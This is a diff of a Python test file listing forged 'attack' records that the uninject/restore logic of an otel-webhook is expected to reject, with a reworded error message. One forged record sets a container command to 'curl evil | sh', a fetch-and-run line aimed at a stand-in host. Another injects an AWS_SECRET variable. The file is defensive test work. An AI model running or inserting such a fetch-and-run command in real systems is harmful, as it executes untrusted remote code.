@@ -216,7 +216,7 @@ ATTACKS = (
      "the record's into[0].was.securityContext: not a field otel-webhook changes; uninject never sets it"),
     ("restores a command injection did not change", forge(injected_pod, lambda r: r["into"][0].setdefault("was", {}).update(
         {"command": ["sh", "-c", "curl evil | sh"]})),
-     "the record's into[0].was.command is not the container's command without its first word"),
+     "the record's into[0].was.command is not the container's command without the Python launcher in front"),
     ("restores an entry of a variable injection does not rewrite", forge(injected_pod, lambda r: r["into"][0]["envWas"].append(
         {"name": "AWS_SECRET", "value": "x"})),
      "the record's into[0].envWas[1]: AWS_SECRET is not a variable otel-webhook rewrites"),
